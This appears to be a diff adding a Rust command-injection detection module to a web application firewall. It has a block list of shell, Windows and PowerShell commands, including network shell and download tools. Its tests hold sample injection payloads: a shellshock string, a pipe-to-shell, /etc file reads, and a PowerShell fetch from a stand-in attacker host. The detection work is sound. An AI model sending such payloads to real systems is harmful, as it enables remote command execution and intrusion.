@@ -1,0 +1,372 @@
+//! Family 932: remote command execution: shell and PowerShell commands
+//! after a command separator, command substitution, shellshock, Windows
+//! `FOR` loops, and the shell's expansion tricks.
+
+use super::Value;
+use crate::request::Location;
+use crate::score::{Finding, Severity, fragment};
+
+/// Commands an injected shell line runs (Unix, Windows, PowerShell).
+const COMMANDS: &[&str] = &[
+    // Unix
+    "cat",
+    "tac",
+    "ls",
+    "id",
+    "whoami",
+    "uname",
+    "wget",
+    "curl",
+    "nc",
+    "ncat",
+    "netcat",
+    "bash",
+    "sh",
+    "zsh",
+    "ksh",
+    "csh",
+    "tcsh",
+    "dash",
+    "python",
+    "python2",
+    "python3",
+    "perl",
+    "ruby",
+    "php",
+    "node",
+    "lua",
+    "ps",
+    "ping",
+    "nslookup",
+    "dig",
+    "host",
+    "find",
+    "chmod",
+    "chown",
+    "rm",
+    "mv",
+    "cp",
+    "echo",
+    "printf",
+    "base64",
+    "rev",
+    "env",
+    "printenv",
+    "cd",
+    "pwd",
+    "column",
+    "bridge",
+    "awk",
+    "sed",
+    "grep",
+    "head",
+    "tail",
+    "less",
+    "more",
+    "nl",
+    "od",
+    "xxd",
+    "sort",
+    "uniq",
+    "tee",
+    "touch",
+    "mkdir",
+    "kill",
+    "pkill",
+    "sleep",
+    "telnet",
+    "ssh",
+    "scp",
+    "ftp",
+    "tftp",
+    "sudo",
+    "su",
+    "crontab",
+    "nohup",
+    "xargs",
+    "exec",
+    "eval",
+    "export",
+    "set",
+    "unset",
+    "source",
+    "passwd",
+    "useradd",
+    "ifconfig",
+    "ip",
+    "netstat",
+    "ss",
+    "lsof",
+    "mount",
+    "dd",
+    "tar",
+    "zip",
+    "unzip",
+    "gzip",
+    "gunzip",
+    "busybox",
+    "socat",
+    "nmap",
+    "sqlmap",
+    "gcc",
+    "cc",
+    "make",
+    "java",
+    "docker",
+    "kubectl",
+    "systemctl",
+    "service",
+    "history",
+    "alias",
+    "jobs",
+    "time",
+    "timeout",
+    "strings",
+    "file",
+    "which",
+    "whereis",
+    "locate",
+    "diff",
+    "cmp",
+    "split",
+    // Windows
+    "cmd",
+    "powershell",
+    "pwsh",
+    "certutil",
+    "mshta",
+    "regedit",
+    "reg",
+    "bcdboot",
+    "bcdedit",
+    "net",
+    "netsh",
+    "tasklist",
+    "taskkill",
+    "ipconfig",
+    "systeminfo",
+    "wmic",
+    "rundll32",
+    "regsvr32",
+    "bitsadmin",
+    "cscript",
+    "wscript",
+    "msiexec",
+    "schtasks",
+    "sc",
+    "type",
+    "dir",
+    "copy",
+    "del",
+    "move",
+    "start",
+    "findstr",
+    "icacls",
+    "vssadmin",
+    "wevtutil",
+    "nltest",
+    "whoami.exe",
+    "cmd.exe",
+    "powershell.exe",
+    // PowerShell aliases and cmdlets
+    "iex",
+    "iwr",
+    "irm",
+    "iwmi",
+    "invoke-expression",
+    "invoke-webrequest",
+    "invoke-restmethod",
+    "invoke-wmimethod",
+    "new-object",
+    "start-process",
+    "downloadstring",
+    "downloadfile",
+    "set-content",
+    "get-content",
+];
+
+fn finding(check: &'static str, v: &Value<'_>, what: &str) -> Finding {
+    Finding {
+        family: 932,
+        check,
+        paranoia: 1,
+        severity: Severity::Critical,
+        location: v.field.location.clone(),
+        fragment: fragment(what),
+    }
+}
+
+/// The shell's view of the text: quotes and backslashes inside words are
+/// gone (`c'a't` is `cat`), `$@` and `${IFS}` mean nothing or a space.
+fn shell_words(s: &str) -> String {
+    let s = s.replace("${ifs}", " ").replace("$ifs", " ").replace("$@", "").replace("$*", "");
+    s.chars().filter(|c| !matches!(c, '\'' | '"' | '\\' | '^')).collect()
+}
+
+/// The first word of `s` (a command name, maybe with a path: `/bin/sh`).
+fn first_word(s: &str) -> &str {
+    let s = s.trim_start();
+    let end = s
+        .find(|c: char| c.is_whitespace() || matches!(c, ';' | '|' | '&' | '<' | '>' | '(' | ')' | '`' | ','))
+        .unwrap_or(s.len());
+    &s[..end]
+}
+
+/// Whether `word` (maybe `/usr/bin/perl`, `python3.10`) names a command.
+fn is_command(word: &str) -> bool {
+    let base = word.rsplit(['/', '\\']).next().unwrap_or(word);
+    let base = base.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
+    !base.is_empty() && COMMANDS.contains(&base)
+}
+
+/// A command right after a separator (`;`, `|`, `&`, `&&`, `||`, a line
+/// break, a backtick or `$(`).
+fn command_after_separator(s: &str) -> Option<String> {
+    for (at, sep) in s.char_indices().filter(|(_, c)| matches!(c, ';' | '|' | '&' | '\n' | '`')) {
+        let rest = &s[at + sep.len_utf8()..];
+        let rest = rest.trim_start_matches(['|', '&']);
+        let word = first_word(rest);
+        if is_command(word) {
+            // `Tom & Jerry`: a lone `&` before an ordinary word is prose;
+            // commands on either side of `&` need an argument or an end.
+            let after = rest.trim_start()[word.len()..].trim_start();
+            let prose_and = sep == '&'
+                && !s[..at].ends_with('&')
+                && after.chars().next().is_some_and(char::is_alphabetic)
+                && !after.starts_with('-');
+            if !prose_and || word.contains('/') {
+                return Some(word.to_owned());
+            }
+        }
+    }
+    None
+}
+
+/// A command at the very start, with what a command takes: a path, a
+/// flag, a URL, or a redirection (`cat /etc/passwd`, `ls -la`).
+fn command_with_arguments(s: &str) -> Option<String> {
+    let word = first_word(s);
+    if !is_command(word) {
+        return None;
+    }
+    let rest = s.trim_start()[word.len()..].trim_start();
+    let argument = rest.starts_with('/')
+        || rest.starts_with('-')
+        || rest.starts_with("http")
+        || rest.starts_with(['>', '<', '|', '$', '~'])
+        || word.contains('/');
+    argument.then(|| word.to_owned())
+}
+
+/// `for %x in (set) do …` (cmd.exe loops).
+fn windows_for(s: &str) -> bool {
+    s.match_indices("for ").any(|(at, _)| {
+        let rest = &s[at + 4..];
+        rest.contains('%') && rest.contains(" in ") && rest.contains('(') && rest.contains(" do ")
+    })
+}
+
+/// `{l,-lh}s`, `c{a,ou}nt`: brace expansion spelling a command.
+fn brace_expansion(s: &str) -> bool {
+    s.match_indices('{').any(|(at, _)| {
+        let Some(len) = s[at..].find('}') else { return false };
+        let inner = &s[at + 1..at + len];
+        inner.contains(',') && !inner.contains(' ') && !inner.contains('"') && !inner.contains(':')
+    })
+}
+
+pub fn check(values: &[Value<'_>], out: &mut Vec<Finding>) {
+    for v in values {
+        if matches!(v.field.location, Location::Method | Location::Path) {
+            continue;
+        }
+        // Line breaks separate commands: read the unfolded text.
+        let s = shell_words(&v.forms.last().map(|f| f.to_lowercase()).unwrap_or_default());
+        let s = s.trim();
+        if let Some(cmd) = command_after_separator(s).or_else(|| command_with_arguments(s)) {
+            out.push(finding("rce-command", v, &cmd));
+        }
+        if s.contains("$(") || s.contains("<(") || s.contains(">(") || s.contains("$((") {
+            out.push(finding("rce-substitution", v, s));
+        } else if let Some(at) = s.find("${") {
+            if s[at..].contains('}') && !s[at + 2..].starts_with('}') {
+                out.push(finding("rce-substitution", v, s));
+            }
+        }
+        if s.matches('`').count() >= 2 {
+            let inner = s.split('`').nth(1).unwrap_or_default();
+            if is_command(first_word(inner)) {
+                out.push(finding("rce-backtick", v, inner));
+            }
+        }
+        if s.replace(' ', "").contains("(){") {
+            out.push(finding("rce-shellshock", v, "() {"));
+        }
+        if windows_for(s) {
+            out.push(finding("rce-windows-for", v, s));
+        }
+        if brace_expansion(s)
+            && matches!(v.field.location, Location::Query(_) | Location::Body(_) | Location::Cookie(_))
+        {
+            out.push(finding("rce-brace-expansion", v, s));
+        }
+        let word = s.split_whitespace().next().unwrap_or_default();
+        let tilde = word
+            .strip_prefix('~')
+            .is_some_and(|r| (r.starts_with('+') || r.starts_with('-')) && r[1..].bytes().all(|b| b.is_ascii_digit()));
+        let bang = word.starts_with('!') && word[1..].trim_start_matches('-').starts_with(|c: char| c.is_ascii_digit());
+        if tilde || bang {
+            out.push(finding("rce-shell-expansion", v, word));
+        }
+        if s.contains("| sh") || s.contains("|sh") || s.contains("| bash") || s.contains("|bash") {
+            out.push(finding("rce-pipe-to-shell", v, s));
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::Request;
+    use crate::score::inspect;
+
+    fn blocked(target: &str) -> bool {
+        inspect(&Request::from_parts("GET", target, vec![], b""), 1, 5).blocked
+    }
+
+    #[test]
+    fn command_injection_is_caught() {
+        for attack in [
+            "/?q=x;cat%20/etc/issue",
+            "/?q=1|id",
+            "/?q=a%0Awhoami",
+            "/?q=$(id)",
+            "/?q=%60id%60",
+            "/?q=()%20{%20:;};%20/bin/sh",
+            "/?q=for%20%25x%20in%20(1)%20do%20calc",
+            "/?q=c'a't%20/etc/hosts",
+            "/?q=;iwr%20http://evil.example/x.ps1",
+            "/?q={l,-lh}s",
+            "/?q=~%2B",
+            "/?q=printf%20abc|base64%20-d|sh",
+        ] {
+            assert!(blocked(attack), "{attack}");
+        }
+    }
+
+    #[test]
+    fn shop_words_that_are_also_commands_pass() {
+        for benign in [
+            "/?q=cat+food",
+            "/?q=Tom+%26+Jerry+mug",
+            "/?q=salt+%26+pepper",
+            "/?q=find+my+order",
+            "/?q=time+for+coffee",
+            "/?q=ping+pong+table",
+            "/?q=100%25+cotton",
+            "/?q=rock+%26+roll",
+            "/?q=net+weight+250g",
+        ] {
+            assert!(!blocked(benign), "{benign}");
+        }
+    }
+}
